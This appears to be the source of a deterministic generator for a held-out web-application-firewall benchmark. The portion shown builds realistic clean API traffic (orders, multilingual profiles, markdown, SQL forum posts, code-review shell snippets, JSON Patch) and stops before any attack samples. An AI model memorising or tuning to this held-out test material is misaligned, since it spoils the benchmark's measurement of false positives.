/**
 * Deterministic generator of the HELD-OUT WAF API-profile corpora (session 3). Written before the profile's prose
 * handling was tuned, by someone other than the author of generate.ts, and never edited to make a sample pass:
 * - `clean-heldout.json`: realistic API traffic of an imaginary shop + forum + wiki + code-review product
 *   (e-commerce orders, profiles with names and addresses in many scripts, markdown docs, SQL tutorials posted
 *   as forum text, shell snippets in code-review comments, JSON Patch, GraphQL queries and mutations with
 *   variables, CMS editor HTML, support prose with SQL/shell-sounding words, searches, form logins, webhooks,
 *   NDJSON logs, encoded values);
 * - `attacks-heldout.json`: SQLi, XSS, RCE, LFI, SSRF, NoSQL (`$where`, operators), prototype pollution,
 *   template injection and Log4Shell, in the query string, headers, cookies, form and JSON bodies (flat, nested,
 *   keys, arrays, prose-like fields, `\u` escapes, JSON inside strings, base64, double percent-encoding,
 *   GraphQL variables and literals, JSON Patch values).
 *
 * The rich-text and code fields of this API (what a user would list in `exclude_fields`) are
 * {@link HELDOUT_EXCLUDE_FIELDS}; attacks were meant to stay out of them (excluding a field is accepting that
 * risk), but one does not: x89 puts PHP in an attachment's `content`, which `body.content` (the wiki page's
 * markdown) also names, since field paths apply to every route. Kept as written, as a reminder of that.
 *
 * Run: `node bench/waf/corpus/heldout.ts` (writes both files next to this script; same output every run).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusRequest } from './generate.ts';

/** The held-out API's rich-text and code fields (markdown docs, forum posts, code-review comments, CMS HTML). */
export const HELDOUT_EXCLUDE_FIELDS = [
  'body.content',
  'body.raw',
  'body.review_comment.body',
  'body.page.blocks[].html',
  'variables.input.body',
];

/** mulberry32 (same as generate.ts, other seed). */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(0x4e1d_0a7);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
/** The i-th element, cycling: every pool item is used at least once when a loop runs past its length. */
const nth = <T>(xs: readonly T[], i: number): T => xs[i % xs.length] as T;
const json = (v: unknown): string => JSON.stringify(v);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;

const AGENTS = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80',
  'ShopApp/4.12.1 (iOS 18.1; iPhone15,2) Alamofire/5.9.1',
  'Dart/3.5 (dart:io)',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Java/21.0.5',
  'PostmanRuntime/7.42.0',
  'insomnia/10.1.1',
  'Apollo iOS/1.15.2',
  'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
];
const LANGS = [
  'en-GB,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'ja-JP,ja;q=0.9',
  'pt-BR,pt;q=0.9,en-US;q=0.8',
  'fr-CH, fr;q=0.9',
];
const COOKIES = [
  '_ga=GA1.1.1234567890.1732000000; _ga_X1Y2Z3=GS1.1.1732000000.3.1.1732000100.0.0.0; sid=s%3AaB3dE5fG7hI9.kL2mN4oP6qR8',
  'cart_id=8f14e45f-ceea-467a-9f3e-5c3b8d1c2a10; consent={"ads":false,"analytics":true}; theme=dark',
  'session=eyJ1aWQiOjQyLCJleHAiOjE3NjcyMjU2MDB9.Zk3Jg2; locale=de-DE; tz=Europe%2FBerlin',
  '__Host-csrf=3b1f9c0e2d7a4e65; __Secure-auth=v2.local.Qm9iIGlzIGhlcmU; preferred_currency=EUR',
];
const TOKEN =
  'eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhY2N0XzkxMjMiLCJzY29wZSI6Im9yZGVyczp3cml0ZSBwcm9maWxlIiwiZXhwIjoxNzY3MjI1NjAwfQ.MEUCIQDx-sig-placeholder_AbC123';

function headers(ct: string | null, extra: Record<string, string> = {}): Record<string, string> {
  const ua = pick(AGENTS);
  const h: Record<string, string> = { 'user-agent': ua, accept: 'application/json' };
  if (rnd() < 0.7) h.authorization = `Bearer ${TOKEN}`;
  if (ua.startsWith('Mozilla')) {
    h['accept-language'] = pick(LANGS);
    if (rnd() < 0.6) h.cookie = pick(COOKIES);
    if (rnd() < 0.5)
      h.referer = `https://shop.example.com/${pick(['account', 'cart', 'checkout', 'wiki/start', 'forum/t/42'])}`;
    h.origin = 'https://shop.example.com';
  }
  if (rnd() < 0.3) h['x-correlation-id'] = `${int(1e7, 9e7).toString(16)}-${int(1e3, 9e3)}`;
  if (rnd() < 0.2) h['x-forwarded-for'] = `198.51.100.${int(1, 254)}, 10.0.${int(0, 9)}.${int(1, 254)}`;
  if (ct !== null) h['content-type'] = ct;
  return { ...h, ...extra };
}

// ------------------------------------------------------------------------------------------------ clean pools

const NAMES = [
  'Søren Kierkegaard',
  '王秀英',
  '佐藤 花子',
  'Дмитрий Иванов',
  'Αλέξανδρος Παπαδόπουλος',
  'محمد الأحمد',
  'שרה כהן',
  'Nguyễn Văn An',
  'Łukasz Wróbel',
  'Çağla Öztürk',
  "Zoë D'Angelo",
  'Seán Ó Briain',
  'Jean-Luc Picard',
  'María José García-López',
  'Björn Ångström',
  'प्रिया शर्मा',
  '김민준',
  'Kwame Nkrumah-Mensah',
  'Olamide Adébáyọ̀',
  'Ana Paula dos Santos',
  "Mary-Kate O'Neil",
  'Pieter van der Berg',
  'Hans-Jürgen Groß',
  'Anaïs Lefèvre',
  "Nuno D'Almeida",
  'José "Pepe" Martínez',
  'Dr. Alice Smith, PhD',
  'Tāne Mahuta',
];
const ADDRESSES = [
  { line1: 'Flat 3, 12 Baker Street', city: 'London', postcode: 'NW1 6XE', country: 'GB' },
  { line1: 'Bahnhofstrasse 7', city: 'Zürich', postcode: '8001', country: 'CH' },
  { line1: '1-2-3 Shibuya, Shibuya-ku', city: '東京都', postcode: '150-0002', country: 'JP' },
  { line1: 'ул. Тверская, д. 7, кв. 12', city: 'Москва', postcode: '125009', country: 'RU' },
  { line1: 'Rua Augusta, 1500 - apto 42', city: 'São Paulo', postcode: '01304-001', country: 'BR' },
  { line1: 'P.O. Box 1234', city: 'Nairobi', postcode: '00100', country: 'KE' },
  { line1: '350 Fifth Avenue, Suite #3400', city: 'New York, NY', postcode: '10118', country: 'US' },
  { line1: 'Calle de Alcalá, 42, 3º izq.', city: 'Madrid', postcode: '28014', country: 'ES' },
  { line1: "12 Rue de l'Église", city: 'Paris', postcode: '75015', country: 'FR' },
  { line1: '朝阳区建国路88号', city: '北京', postcode: '100022', country: 'CN' },
  { line1: "Unit 5/22 O'Connell St", city: 'Sydney NSW', postcode: '2000', country: 'AU' },
  { line1: 'Av. 9 de Julio 1000, Piso 5, Depto "B"', city: 'Buenos Aires', postcode: 'C1043', country: 'AR' },
  { line1: 'Karl-Marx-Allee 1 / Hinterhaus', city: 'Berlin', postcode: '10178', country: 'DE' },
  { line1: 'ul. Marszałkowska 10/12 m. 5', city: 'Warszawa', postcode: '00-590', country: 'PL' },
  { line1: 'İstiklal Cd. No:12 D:3', city: 'İstanbul', postcode: '34430', country: 'TR' },
  { line1: 'شارع الملك فهد، مبنى 4', city: 'الرياض', postcode: '12211', country: 'SA' },
  { line1: '강남구 테헤란로 152', city: '서울특별시', postcode: '06236', country: 'KR' },
  { line1: 'Road 10, House #5 (2nd floor)', city: 'Dhaka', postcode: '1209', country: 'BD' },
  { line1: '1 Union Square West & 14th St', city: 'New York, NY', postcode: '10003', country: 'US' },
  { line1: 'Select House, 5 Drop Lane', city: 'Leeds', postcode: 'LS1 4AP', country: 'GB' },
];
const BIOS = [
  'Backend dev. I select my battles carefully and drop everything for good coffee.',
  'DBA by day (Postgres, a bit of Oracle), union rep by night.',
  'Runner, reader, recovering insomniac — trying to sleep 8 hours a night.',
  'I teach SQL to beginners: SELECT, JOIN, GROUP BY, and why you never concatenate user input.',
  'Former sysadmin. Still flinch when someone types rm -rf.',
  'Photographer 📷 | Lisbon ↔ Porto | she/her',
  'Ich schreibe über Datenbanken, Union-Typen in TypeScript und guten Kaffee.',
  "Développeuse front-end; j'aime les <table> bien formées et le café.",
  'Программист, люблю Linux и чай.',
  '趣味は読書と旅行です。よろしくお願いします。',
  'Security researcher. Opinions are mine; payloads are not.',
  'Maintainer of a small shell utility (bash/zsh). PRs welcome!',
  'Father of two, cat person, occasional Windows user (C:\\Users\\me is my second home).',
  'I like long walks, short meetings and WHERE clauses that use an index.',
  'Ex-teacher → now data analyst. Excel, SQL, Python (pandas).',
  "Music: Rock & Roll, Drum 'n' Bass, and \"whatever's on\".",
  'إدارة المنتجات في شركة ناشئة',
  'Kierowca, wędkarz, programista.',
  'Choir alto; I exec a mean crème brûlée. Ask me about sourdough.',
  "Having fun with Rust & Go; 'or' is my favourite keyword.",
];
const ORDER_NOTES = [
  "Please leave the parcel with the neighbour at no. 14 if nobody's home.",
  "Gift wrap please — it's for my mum's 60th! Card: 'Happy birthday, love from all of us <3'",
  'Deliver between 9am & 5pm; the gate code is #4521.',
  'Door is round the back; ring twice. Dog is friendly (ignore the sign).',
  'If the item is out of stock, select the next closest size instead.',
  'Ship to my office: Attn. Accounts Payable / PO #88213.',
  "Don't drop it — fragile! Glass inside.",
  'Bitte beim Nachbarn abgeben, falls niemand zu Hause ist.',
  "Merci de sonner à l'interphone « Dupont ».",
  '請放在管理室，謝謝。',
  'Replace order #5531 (wrong colour) — see ticket 9921.',
  'Can you combine this with order 10442 to save on shipping?',
  "Call me on +44 (0)20 7946 0123 when you're 10 min away.",
  'Use the side entrance on Union Street.',
  "Leave at the door; 'signature not required' was ticked.",
  "50% of this order is a gift, please don't include the invoice in the box.",
  "The buzzer for flat 3 doesn't work -> call instead.",
  'Por favor, entregar na portaria do prédio.',
  '',
  'N/A',
];
const PROSE = [
  'Hi, the select committee report link on your site returns a 404 — can you fix it?',
  'I need to update my billing address and delete the old card on file.',
  "After the update my app keeps crashing when I select 'Export to CSV'.",
  'Why does the installer ask for admin rights? It wants to write to C:\\Program Files (x86)\\Acme\\.',
  'Our devs noticed that alert() and confirm() dialogs are blocked in the embedded webview. Any workaround?',
  "The JS docs page on alert() has a typo: it says 'alret'.",
  'My son says you need to sleep 8 hours before the exam. Is the test centre open at 8?',
  'Could you drop the late fee? I was in hospital.',
  'Where can I find the union agreement PDF from last year?',
  'The order table on the dashboard shows duplicates when I sort by date.',
  "I ran the export and it says: Error 1064 near 'WHERE' — what does that mean?",
  'Is it possible to insert a page break in the invoice template?',
  "Please cancel my subscription and remove all my data; I'm switching to a competitor.",
  "The 'Select all' checkbox doesn't select anything on Firefox 133.",
  'I tried `ping api.example.com` and it times out from our office network.',
  'Your firewall blocks our upload of bin-report.pdf with a 403, is that on purpose?',
  'The script in the <head> tag loads twice — is that expected?',
  "Hello! Your 'Having trouble?' link goes to a blank page.",
  "It says 'user or password wrong' — I'm 100% sure it's right.",
  'We install to Program Files on Windows and /opt on Linux; where does the agent log by default?',
  "My cat walked over the keyboard and now my username is 'ffffffff;;;;'. Can you rename it?",
  'The exec summary (page 2) and the appendix disagree on the Q3 numbers.',
  'Where do I set the wake/sleep schedule for the thermostat?',
  "I'd like to order 3 more, and then select express delivery if possible.",
  'Is `eval` ever safe in JavaScript? Our linter flags it.',
  'How do I echo a variable in the template? {{ name }} shows literally.',
  'The onload event fires twice in Safari; see the attached HAR file.',
  'Please join the call — the link is in the calendar invite.',
  "We're running out of disk; /var/log is at 95%.",
  "The 'OR' filter in search doesn't work: 'red OR blue' returns nothing.",
  "Nos clients veulent supprimer leur compte : où est l'option ?",
  'Wir haben ein Problem mit der Union-Abfrage in Ihrem Report-Builder.',
  'La tabla de precios no se actualiza después de seleccionar otra moneda.',
  "Não consigo fazer login desde ontem, aparece 'senha inválida'.",
  'Не могу удалить старый адрес доставки из профиля.',
  'ログインできません。パスワードをリセットしてください。',
  '我想修改订单的收货地址。',
  'لا أستطيع تحميل الفاتورة.',
  'Five stars. Setup took 2 minutes; the "drop zone" for files is great.',
  'Sleeps 8 hours on one charge? More like 5, and only if you turn off Bluetooth.',
  'The union of style and function — love it.',
  'Returned it: the select button broke after a week.',
  "Don't buy. 1/10 would not recommend.",
  'Best kettle ever!!! <3 <3',
  "Meh... it's OK. 3/5 :-)",
  "Works on Windows 11 (installs to C:\\Program Files by default, can't change it).",
  'Arrived in 2 days, but the box said "This side up" and it was upside down. Still works.',
  'I set a reminder: drop off the parcel, then select a new plan before the 1st.',
  'The manual says: press and hold for 5 s, then select "Reset" and confirm.',
  'Good value for money; would order again & recommend to friends.',
  "The echo in the room is awful — it's the speaker, not the room.",
  'Tried it with the kids: they loved the sleep mode and the night light.',
  'Can your API return orders where status is either shipped or delivered?',
  'Why is my invoice total = subtotal + tax - discount off by 1 cent?',
  "In the docs, the example calls window.alert('Saved!') after the fetch; that blocks the UI.",
  'Our auditor asked for logs from /var/log/nginx/access.log for last March; do you keep them?',
  'Hi team — the cron job that runs at 0 3 * * * seems to run twice on DST change.',
  'Quick question: does "delete from account" also delete my reviews?',
  'Thanks! The new version fixed it (after I cleared %APPDATA%\\Acme\\cache).',
  'Please add me to the wait list; size 10 or 10.5 is fine.',
];
const CODE_REVIEW = [
  'nit: `set -euo pipefail` at the top would catch this.',
  'This breaks on paths with spaces; quote it: `cp "$src" "$dst"`.',
  "Could we use `find . -name '*.tmp' -delete` instead of the loop?",
  "```sh\ncurl -sS -X POST -H 'Content-Type: application/json' -d @payload.json https://api.example.com/v1/items\n```",
  'Why `chmod 777`? 755 should be enough for the deploy dir.',
  '`ls -la /etc/nginx/sites-enabled/` shows the symlink is broken on staging.',
  'Suggest: `kill -9 $(lsof -t -i:3000)` in the dev script is too aggressive; use `kill -TERM`.',
  '```bash\nexport PATH="$HOME/.local/bin:$PATH"\nwhich python3 && python3 -m venv .venv\n```',
  'LGTM. Minor: `grep -rn TODO src/ | wc -l` is at 42 now.',
  'The Dockerfile should `RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates && rm -rf /var/lib/apt/lists/*`.',
  '`echo $SHELL` prints /bin/zsh on macOS, so the bashism on line 12 fails.',
  'Use `xargs -0` with `find -print0`, otherwise filenames with newlines break.',
  'This `eval "$(ssh-agent -s)"` line should only run in interactive shells.',
  "```powershell\nGet-ChildItem -Path 'C:\\Program Files\\Acme' -Recurse | Remove-Item -WhatIf\n```",
  '`tar -czf backup.tgz /var/www/html` — exclude node_modules or it is 2 GB.',
  "Please don't `sudo npm install -g`; use nvm.",
  "`SELECT * FROM pg_stat_activity WHERE state = 'active';` shows the lock holder.",
  '```js\nelement.innerHTML = userInput; // XSS! use textContent\n```',
  "`document.cookie` isn't readable here because the cookie is HttpOnly — good.",
  'Use `subprocess.run(["git", "rev-parse", "HEAD"], check=True)` instead of os.system.',
];
const SQL_FORUM = [
  'To find duplicate emails:\n\n    SELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;\n\nThen decide which row to keep.',
  "Q: What's the difference between UNION and UNION ALL?\nA: UNION removes duplicates, UNION ALL keeps them, so UNION ALL is faster.",
  'Use a LEFT JOIN and check for NULL: SELECT c.* FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.id IS NULL',
  'Never build queries like "SELECT * FROM users WHERE name = \'" + name + "\'" — use parameters!',
  'In Postgres, `DELETE FROM sessions WHERE expires_at < now();` runs nightly via pg_cron.',
  "Why does SELECT 1 WHERE 1=1 return a row but WHERE NULL = NULL doesn't? Three-valued logic.",
  'Window functions: ROW_NUMBER() OVER (PARTITION BY dept ORDER BY salary DESC) gives you the top earner per department.',
  'How do I pause in a stored procedure? In MySQL it is SELECT SLEEP(2); in Postgres, pg_sleep(2).',
  'I would index (user_id, created_at) and rewrite the subquery as a join; EXPLAIN ANALYZE shows a seq scan now.',
  'To rename a column: ALTER TABLE orders RENAME COLUMN total TO total_cents; then update the views.',
  'Tip: INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b; is an upsert.',
  'The book "SQL Antipatterns" has a chapter on this; the union of both tables is what you want.',
  "Try: UPDATE products SET price = price * 1.1 WHERE category = 'books'; — but in a transaction first!",
  "CTEs make this readable:\n\nWITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '30 days')\nSELECT customer_id, sum(total) FROM recent GROUP BY 1;",
  'You can drop the temp table at the end: DROP TABLE IF EXISTS tmp_import;',
  'Is there a way to select the second highest salary without LIMIT/OFFSET?',
];
const MARKDOWN = [
  "# Installation\n\n```bash\nnpm install @acme/sdk\n```\n\n## Usage\n\n```js\nimport { Client } from '@acme/sdk';\nconst c = new Client({ apiKey: process.env.ACME_KEY });\n```\n",
  '## FAQ\n\n**Q: Where are logs stored?**\n\nOn Linux `/var/log/acme/`, on Windows `C:\\ProgramData\\Acme\\logs`.\n',
  '| Option | Default | Description |\n|---|---|---|\n| `timeout` | `30s` | Request timeout |\n| `retries` | `3` | Retries on 5xx |\n',
  '> **Warning**\n> Never commit your `.env` file.\n\nSee [the security guide](https://docs.example.com/security).',
  '### Debugging\n\nSet `DEBUG=acme:*` and run `node --inspect server.js`. Then open `chrome://inspect`.',
  '## Release notes 2.4\n\n- Fixed: `select()` on empty lists threw\n- Added: `--dry-run` flag to `acme drop-db`\n- Removed: legacy `exec` API (use `run`)',
  '## Embedding\n\nPaste this into your page:\n\n```html\n<script src="https://cdn.example.com/widget.js" async></script>\n<div id="acme-widget"></div>\n```',
  'Use `alert()` only for debugging; in production prefer a toast component.',
  '## Backups\n\n1. Stop the service: `systemctl stop acme`\n2. Copy `/var/lib/acme/data` somewhere safe\n3. Start it again\n',
  '## Querying\n\n```sql\nSELECT id, name FROM widgets WHERE owner_id = $1 ORDER BY name;\n```\n\nAlways use placeholders.',
];
const CMS_HTML = [
  '<h1>Summer sale</h1><p>Up to <strong>50%</strong> off selected items.</p>',
  '<p>Read our <a href="https://example.com/privacy" title="Privacy policy">privacy policy</a> &amp; <a href="/terms">terms</a>.</p>',
  '<figure class="image"><img src="/media/2026/03/hero.webp" alt="Mountains at sunrise" loading="lazy"><figcaption>Dolomites, 6 a.m.</figcaption></figure>',
  '<ol><li>Open <em>Settings</em></li><li>Select <strong>Privacy</strong></li><li>Click <code>Delete account</code></li></ol>',
  '<p>Watch the keynote:</p><figure class="media"><oembed url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"></oembed></figure>',
  '<div class="callout callout--info"><p>ℹ️ Maintenance on Sunday 02:00–04:00 UTC.</p></div>',
  '<pre><code class="language-sql">SELECT id, title FROM posts ORDER BY published_at DESC LIMIT 10;</code></pre>',
  '<p>Σας ευχαριστούμε για την παραγγελία σας!</p><p>感谢您的订购！</p>',
  '<p><span style="font-size:18px;color:rgb(51,51,51);">Big news</span> — we moved to <u>Union Square</u>.</p>',
  '<iframe src="https://www.youtube-nocookie.com/embed/abc123" width="560" height="315" frameborder="0" allowfullscreen></iframe>',
];
const PRODUCTS = [
  { sku: 'KT-100-BLK', name: 'Kettle 1.7 l, black' },
  { sku: 'TT-DROP-01', name: 'Drop-leaf table tennis table' },
  { sku: 'SLP-MASK-3', name: 'Sleep mask (3-pack)' },
  { sku: 'UJ-FLAG-L', name: 'Union Jack flag, large' },
  { sku: 'BK-SQL-2E', name: 'Learning SQL, 2nd ed.' },
  { sku: 'CBL-USB-C', name: 'USB-C cable 2 m "braided"' },
  { sku: 'SCR-SET-12', name: 'Screwdriver set (12 pcs) & case' },
  { sku: 'TEA-OOLONG', name: '烏龍茶 100 g' },
  { sku: 'SHOE-42-EU', name: "Men's runner, EU 42 / UK 8" },
  { sku: 'LAMP-SELECT', name: 'Select desk lamp, 4000 K' },
];
const TITLES = [
  'Getting started',
  'Union types vs. enums',
  'How we cut p99 latency by 40%',
  'Select committee hearing: notes',
  'Release 2.4 — what changed',
  'Sleep, focus & productivity',
  'Drop shipping 101',
  'Where to eat in Zürich',
  "Editor's picks: March",
  'Q&A: Program Files vs. ProgramData',
];
const SEARCHES = [
  '/api/products?q=drop%20shipping&sort=price&order=asc',
  '/api/search?q=select%20committee%20hearing&type=news',
  '/api/search?q=how+to+sleep+better&lang=en',
  '/api/search?q=C%2B%2B%20union%20vs%20struct',
  '/api/search?q=%22program+files%22+windows+11',
  '/api/docs/search?q=alert()%20vs%20console.log',
  '/api/search?q=rock+%26+roll',
  '/api/jobs?q=database+administrator&location=M%C3%BCnchen',
  '/api/v1/articles?filter[status]=published&filter[tag]=sql&sort=-published_at&page[size]=20&fields[articles]=title,summary',
  '/api/search?q=union+station+to+o%27hare',
  '/api/search?q=%E6%9D%B1%E4%BA%AC%20%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3',
  '/api/search?q=where+is+my+order',
  '/api/search?q=exec+summary+template',
  '/api/v1/orders?created_at[gte]=2026-01-01&created_at[lt]=2026-02-01&status=shipped',
  '/api/search?q=script+writing+course&page=2',
  '/api/search?q=%D0%BA%D1%83%D0%BF%D0%B8%D1%82%D1%8C+%D1%87%D0%B0%D0%B9%D0%BD%D0%B8%D0%BA',
  '/api/products?category=home%20%26%20garden&price_max=49.99&in_stock=true',
  '/api/search?q=sleep+mask+%22blackout%22',
  '/api/search?q=what%27s+new+in+2.4',
  '/api/forum/search?q=left+join+null&tags=sql,postgres',
  '/api/search?q=table+tennis+drop+leaf',
  '/api/search?q=update+firmware+select+model',
  '/api/search?q=order+by+date',
  '/api/users?email=jose.garcia%2Btest%40example.com',
  '/api/search?q=1%2F2+church+lane',
];
const GQL_CLEAN: { q: string; v: () => Record<string, unknown> }[] = [
  {
    q: 'mutation AddToCart($input: AddToCartInput!) {\n  addToCart(input: $input) {\n    cart { id totalQuantity }\n    userErrors { field message }\n  }\n}',
    v: () => ({ input: { sku: pick(PRODUCTS).sku, quantity: int(1, 4), note: pick(ORDER_NOTES) } }),
  },
  {
    q: 'mutation UpdateAddress($id: ID!, $address: AddressInput!) {\n  updateAddress(id: $id, address: $address) { id line1 city }\n}',
    v: () => ({ id: `addr_${int(1, 9999)}`, address: pick(ADDRESSES) }),
  },
  {
    q: 'mutation CreateIssue($input: CreateIssueInput!) {\n  createIssue(input: $input) { issue { number url } }\n}',
    v: () => ({ input: { repositoryId: 'R_kgDOabc123', title: pick(TITLES), body: pick(CODE_REVIEW) } }),
  },
  {
    q: 'mutation SubmitReview($productId: ID!, $rating: Int!, $text: String!) {\n  submitReview(productId: $productId, rating: $rating, text: $text) { id status }\n}',
    v: () => ({ productId: `P${int(100, 999)}`, rating: int(1, 5), text: pick(PROSE) }),
  },
  {
    q: 'mutation RenameFile($id: ID!, $name: String!) { renameFile(id: $id, name: $name) { id name } }',
    v: () => ({
      id: `file_${int(1, 999)}`,
      name: pick([
        'Q3 report (final) [v2].xlsx',
        'Union dues 2026.pdf',
        "Mum's 60th — photos.zip",
        'select-list.csv',
      ]),
    }),
  },
  {
    q: 'query Product($slug: String!, $withReviews: Boolean = false) {\n  product(slug: $slug) {\n    ...ProductCard\n    reviews(first: 5) @include(if: $withReviews) { nodes { rating text } }\n  }\n}\nfragment ProductCard on Product { id name price { amount currency } }',
    v: () => ({
      slug: pick(['kettle-1-7l', 'drop-leaf-table', 'sleep-mask-3-pack']),
      withReviews: rnd() < 0.5,
    }),
  },
  {
    q: 'query Orders($first: Int!, $status: [OrderStatus!]) {\n  me {\n    recent: orders(first: $first, status: $status, orderBy: {field: CREATED_AT, direction: DESC}) {\n      edges { node { id number total } }\n    }\n  }\n}',
    v: () => ({ first: 10, status: ['SHIPPED', 'DELIVERED'] }),
  },
  {
    q: 'mutation SetPreferences($prefs: JSON!) { setPreferences(prefs: $prefs) { ok } }',
    v: () => ({
      prefs: {
        newsletter: false,
        sleepReminders: true,
        quietHours: { from: '22:00', to: '07:00' },
        theme: 'dark',
      },
    }),
  },
  {
    q: 'mutation PostMessage($channel: ID!, $text: String!) { postMessage(channel: $channel, text: $text) { id ts } }',
    v: () => ({ channel: `C0${int(100, 999)}`, text: pick(PROSE) }),
  },
  {
    q: '# Search as you type: select the fields the list renders\nquery Typeahead($term: String!) {\n  search(term: $term, first: 8) { ... on Product { id name } ... on Article { id title } }\n}',
    v: () => ({ term: pick(['select', 'drop', 'union', 'sleep', 'exec', 'where', 'kettle', "o'hare"]) }),
  },
];

// ------------------------------------------------------------------------------------------------- clean requests

const clean: CorpusRequest[] = [];
function addClean(
  kind: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  extra: Record<string, string> = {},
): void {
  clean.push({ id: `h${clean.length + 1}`, kind, method, path, headers: headers(ct, extra), body });
}

// e-commerce orders and carts (40)
for (let i = 0; i < 40; i++) {
  const items = Array.from({ length: int(1, 3) }, () => {
    const p = pick(PRODUCTS);
    return {
      sku: p.sku,
      name: p.name,
      quantity: int(1, 5),
      unit_price: { amount: int(199, 19999), currency: 'EUR' },
    };
  });
  const r = i % 4;
  if (r === 0 || r === 1)
    addClean(
      'ecommerce',
      'POST',
      '/api/v2/orders',
      'application/json',
      json({
        customer: {
          name: nth(NAMES, i),
          email: `buyer${i}@example.org`,
          phone: `+${int(1, 99)} ${int(100, 999)} ${int(1000, 9999)}`,
        },
        shipping_address: nth(ADDRESSES, i),
        items,
        delivery_note: nth(ORDER_NOTES, i),
        coupon: pick(['', 'SPRING-10', 'WELCOME5', 'FREESHIP']),
        gift: rnd() < 0.3 ? { wrap: true, message: pick(ORDER_NOTES) } : null,
      }),
    );
  else if (r === 2)
    addClean(
      'ecommerce',
      'PATCH',
      `/api/v2/carts/${int(1e5, 9e5)}`,
      'application/merge-patch+json',
      json({
        items: items.map((it) => ({ sku: it.sku, quantity: it.quantity })),
        note: nth(ORDER_NOTES, i + 7),
      }),
    );
  else
    addClean(
      'ecommerce',
      'POST',
      `/api/v2/orders/${int(1e4, 9e4)}/returns`,
      'application/json',
      json({
        reason: pick(['damaged', 'wrong_item', 'changed_mind']),
        comment: nth(PROSE, i),
        items: [items[0]?.sku],
      }),
    );
}
// user profiles (45)
for (let i = 0; i < 45; i++) {
  const name = nth(NAMES, i);
  if (i % 3 === 2)
    addClean(
      'profile',
      'PATCH',
      `/api/v1/me`,
      'application/json',
      json({
        display_name: name,
        bio: nth(BIOS, i),
        website: pick(['https://example.dev/~me', 'https://blog.example.org/', '']),
        pronouns: pick(['she/her', 'he/him', 'they/them', '']),
      }),
    );
  else
    addClean(
      'profile',
      i % 3 === 0 ? 'POST' : 'PUT',
      i % 3 === 0 ? '/api/v1/accounts' : `/api/v1/accounts/${int(1, 99999)}`,
      'application/json; charset=utf-8',
      json({
        name,
        given_name: name.split(' ')[0],
        family_name: name.split(' ').slice(1).join(' '),
        email: `user.${i}@example.net`,
        address: nth(ADDRESSES, i + 3),
        locale: pick(['en-GB', 'de-CH', 'ja-JP', 'pt-BR', 'ar-SA', 'zh-CN']),
        bio: nth(BIOS, i + 5),
        birthday: `19${int(50, 99)}-0${int(1, 9)}-1${int(0, 9)}`,
      }),
    );
}
// markdown docs (wiki; `content` is a rich field) (20)
for (let i = 0; i < 20; i++)
  addClean(
    'markdown',
    'PUT',
    `/api/wiki/pages/${['getting-started', 'faq', 'config', 'debugging', 'release-2-4'][i % 5]}`,
    'application/json',
    json({
      title: nth(TITLES, i),
      content: nth(MARKDOWN, i),
      tags: ['docs', pick(['sdk', 'ops', 'sql'])],
      minor_edit: i % 2 === 0,
    }),
  );
// SQL tutorials as forum posts (`raw` is a rich field) (20)
for (let i = 0; i < 20; i++)
  addClean(
    'sql-forum',
    'POST',
    `/api/forum/topics/${int(100, 9999)}/posts`,
    'application/json',
    json({ raw: nth(SQL_FORUM, i), reply_to_post_number: i % 3 === 0 ? null : int(1, 40), whisper: false }),
  );
// code-review comments (`review_comment.body` is a rich field) (25)
for (let i = 0; i < 25; i++)
  addClean(
    'code-review',
    'POST',
    `/api/repos/acme/platform/pulls/${int(100, 4000)}/comments`,
    'application/json',
    json({
      review_comment: {
        body: nth(CODE_REVIEW, i),
        path: pick(['scripts/deploy.sh', 'Dockerfile', 'src/db/query.ts', 'Makefile']),
        line: int(1, 300),
        side: 'RIGHT',
      },
      commit_id: `${int(1e7, 9e7).toString(16)}${int(1e7, 9e7).toString(16)}`,
    }),
  );
// JSON Patch (25)
for (let i = 0; i < 25; i++)
  addClean(
    'json-patch',
    'PATCH',
    `/api/v1/${pick(['products', 'articles', 'users'])}/${int(1, 9999)}`,
    'application/json-patch+json',
    json([
      { op: 'test', path: '/version', value: int(1, 30) },
      { op: 'replace', path: '/description', value: nth(PROSE, i + 11) },
      { op: 'add', path: '/tags/0', value: pick(['sale', 'new', 'union-made', 'select']) },
      ...(i % 2 === 0
        ? [{ op: 'move', from: '/draft/title', path: '/title' }]
        : [{ op: 'remove', path: `/items/${int(0, 5)}` }]),
      ...(i % 5 === 0 ? [{ op: 'copy', from: '/billing_address', path: '/shipping_address' }] : []),
      ...(i % 7 === 0
        ? [{ op: 'replace', path: '/settings/paths/~1data~1exports', value: '/data/exports/2026' }]
        : []),
    ]),
  );
